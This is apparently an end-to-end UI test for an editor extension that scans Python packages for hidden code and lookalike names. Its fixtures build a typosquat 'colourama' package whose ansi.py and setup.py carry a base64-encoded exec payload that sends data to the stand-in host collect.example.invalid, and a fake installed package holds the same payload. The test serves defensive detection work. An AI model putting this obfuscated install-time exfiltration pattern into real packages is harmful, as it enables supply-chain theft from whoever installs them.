/** A look into a package in front of a person: the page, the lines, the comparison, and what the manifest then says. */
import assert from 'node:assert/strict';
import type { ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { openWorkbench, type Workbench } from './open-workbench.ts';
import { startServices } from './services.ts';

const original = Array.from(
  { length: 30 },
  (_, number) =>
    `def style_${number}(text):\n    """Gives the text in colour ${number}."""\n    return '\\033[${number}m' + text + '\\033[0m'\n`,
).join('\n\n');
const payload = Buffer.from(
  "import urllib.request\nurllib.request.urlopen('https://collect.example.invalid/in', data=b'x')\n",
).toString('base64');
const hidden = `import base64\nexec(base64.b64decode('${payload}'))\n`;
const files = (name: string, ansi: string) => ({
  [`${name}/__init__.py`]: `"""Colours for terminals."""\nfrom ${name}.ansi import style_1\n`,
  [`${name}/ansi.py`]: ansi,
  [`${name}/win32.py`]: "HOMEPAGE = 'https://docs.example.org/colours'\n",
});
const forged = original.replace('def style_12(', `${hidden}\n\ndef style_12(`);
const contents = {
  colorama: { '0.4.6': { wheel: files('colorama', original), sdist: files('colorama', original) } },
  colourama: {
    '0.4.6': {
      wheel: { ...files('colourama', forged), 'colourama/extra.py': 'LEVEL = 3\n' },
      sdist: {
        ...files('colourama', forged),
        'setup.py': `from setuptools import setup\n${hidden}setup(name='colourama')\n`,
      },
    },
  },
};

describe('A look into a package', function () {
  this.bail(true);
  let workbench: Workbench;
  let services: ChildProcess;
  let folder: string;

  before(async () => {
    folder = fs.mkdtempSync(path.join(path.resolve(import.meta.dirname, '../..'), 'contents-'));
    const file = path.join(folder, 'contents.json');
    fs.writeFileSync(file, JSON.stringify(contents));
    const started = await startServices('--contents', file);
    services = started.process;
    workbench = await openWorkbench('packages', { env: started.env });
    writeEnvironment(workbench.home.workspace);
  });

  afterEach(async function () {
    if (this.currentTest?.state === 'failed') await workbench?.screen.shoot('failed');
  });

  after(async function () {
    services?.kill();
    fs.rmSync(folder, { recursive: true, force: true });
    await workbench?.close(this.test?.parent?.tests.some(({ state }) => state === 'failed') ?? true);
  });

  it('asks which one, and offers the name under the cursor', async () => {
    const { screen } = workbench;
    await screen.openFile('requirements-dev.txt');
    await screen.squiggle.first().waitFor();
    await screen.goTo(3, 4);
    await screen.runCommand('Antivenom: Inspect a Package…');
    await screen.page
      .locator('.quick-input-list .monaco-list-row', { hasText: 'colourama==0.4.6' })
      .waitFor();
    const input = screen.page.locator('.quick-input-widget input').first();
    assert.equal(await input.inputValue(), 'colourama==0.4.6');
    await screen.shoot('ask');
    await screen.page.keyboard.press('Enter');
  });

  it('shows a page that says what it found', async () => {
    const { screen } = workbench;
    await screen.webview.getByRole('heading', { name: 'colourama 0.4.6' }).waitFor();
    await screen.webview.getByText('Shows signs of hidden code').first().waitFor();
    await screen.notifications.filter({ hasText: 'looking into' }).waitFor({ state: 'detached' });
    await screen.shoot('page-light');
    await screen.webview.getByRole('heading', { name: 'What runs when' }).last().scrollIntoViewIfNeeded();
    await screen.shoot('page-light-end');
    await screen.chooseTheme('Dark Modern');
    await screen.webview.locator('body.vscode-dark').waitFor();
    await screen.shoot('page-dark-end');
    await screen.webview.getByRole('heading', { name: 'colourama 0.4.6' }).scrollIntoViewIfNeeded();
    await screen.shoot('page-dark');
  });

  it('leads from a sign to its line, which can only be read', async () => {
    const { screen } = workbench;
    await screen.webview
      .getByRole('button', { name: /^colourama\/ansi\.py:\d+:1$/ })
      .first()
      .click();
    await screen.line('exec(base64.b64decode');
    await screen.page.locator('.codelens-decoration', { hasText: 'decoded-exec' }).first().waitFor();
    await screen.shoot('line-dark');
    await screen.page.keyboard.type('x');
    assert.equal(await screen.page.locator('.tab.active.dirty').count(), 0);
    await screen.page.keyboard.press('Escape');
    await screen.chooseTheme('Light Modern');
    await screen.page.locator('.monaco-workbench.vs').waitFor();
    await screen.shoot('line-light');
  });

  it('opens the editor’s own comparison with the original', async () => {
    const { screen } = workbench;
    await screen.page.keyboard.press('Control+W');
    await screen.webview.getByRole('button', { name: 'Compare with the original' }).first().click();
    await screen.page.locator('.monaco-diff-editor .view-line', { hasText: 'exec(base64' }).first().waitFor();
    await screen.shoot('compare-light');
    await screen.chooseTheme('Dark Modern');
    await screen.page.locator('.monaco-workbench.vs-dark').waitFor();
    await screen.shoot('compare-dark');
    await screen.page.keyboard.press('Control+W');
  });

  it('leaves its word on the line of the manifest, and a way back', async () => {
    const { screen } = workbench;
    await screen.page.locator('.tab', { hasText: 'requirements-dev.txt' }).click();
    await screen.editor.locator('.squiggly-error').first().waitFor();
    await screen.goTo(3, 4);
    await screen.page.keyboard.press('Control+.');
    await screen.quickFixes.filter({ hasText: 'Show what was found' }).waitFor();
    await screen.shoot('manifest');
    await screen.page.keyboard.press('Escape');
    await screen.page.keyboard.press('Control+Shift+M');
    await screen.problems.filter({ hasText: 'shows signs of hidden code' }).first().waitFor();
    await screen.shoot('problems');
    await screen.page.keyboard.press('Control+Shift+M');
  });

  it('looks into the environment of the project', async () => {
    const { screen } = workbench;
    await screen.runCommand('Antivenom: Scan Environment');
    const sum = screen.notifications.filter({ hasText: '1 of 2 packages shows signs of hidden code' });
    await sum.waitFor();
    await screen.shoot('environment-sum');
    await sum.getByText('Show Report').click();
    await screen.webview.getByRole('heading', { name: 'Environment .venv' }).waitFor();
    await screen.shoot('environment-dark');
  });

  it('is offered for a wheel in the explorer', async () => {
    const { screen } = workbench;
    await screen.page
      .locator('.explorer-folders-view .monaco-list-row', { hasText: 'calm-1.0' })
      .click({ button: 'right' });
    await screen.page.locator('.monaco-menu .action-item', { hasText: 'Inspect with Antivenom' }).waitFor();
    await screen.shoot('explorer');
    await screen.page.keyboard.press('Escape');
  });

  it('lists the names that imitate the project', async () => {
    const { screen } = workbench;
    await screen.runCommand('Antivenom: Check Lookalikes of My Project');
    await screen.page.locator('.tab.active', { hasText: 'Lookalikes of weather-board' }).waitFor();
    await screen.webview.getByRole('heading', { name: 'Lookalikes of weather-board' }).waitFor();
    await screen.shoot('lookalikes');
  });

  it('reached nothing beyond this machine', () => assert.deepEqual(workbench.blocked, []));
});

/** Two projects, one of which hides something, and a wheel in the project's own folder. */
function writeEnvironment(workspace: string): void {
  const site = path.join(workspace, '.venv/lib/python3.12/site-packages');
  const all: Record<string, string> = {
    '../../../pyvenv.cfg': '',
    'acme_plots/__init__.py': hidden,
    'acme_plots-2.0.dist-info/METADATA': 'Name: acme-plots\nVersion: 2.0\n',
    'acme_plots-2.0.dist-info/RECORD': 'acme_plots/__init__.py,,\n',
    'calm/__init__.py': 'x = 1\n',
    'calm-1.0.dist-info/METADATA': 'Name: calm\nVersion: 1.0\n',
    'calm-1.0.dist-info/RECORD': 'calm/__init__.py,,\n',
  };
  for (const [file, text] of Object.entries(all)) {
    const target = path.join(site, file);
    fs.mkdirSync(path.dirname(target), { recursive: true });
    fs.writeFileSync(target, text);
  }
  fs.writeFileSync(path.join(workspace, 'calm-1.0-py3-none-any.whl'), 'PK');
}
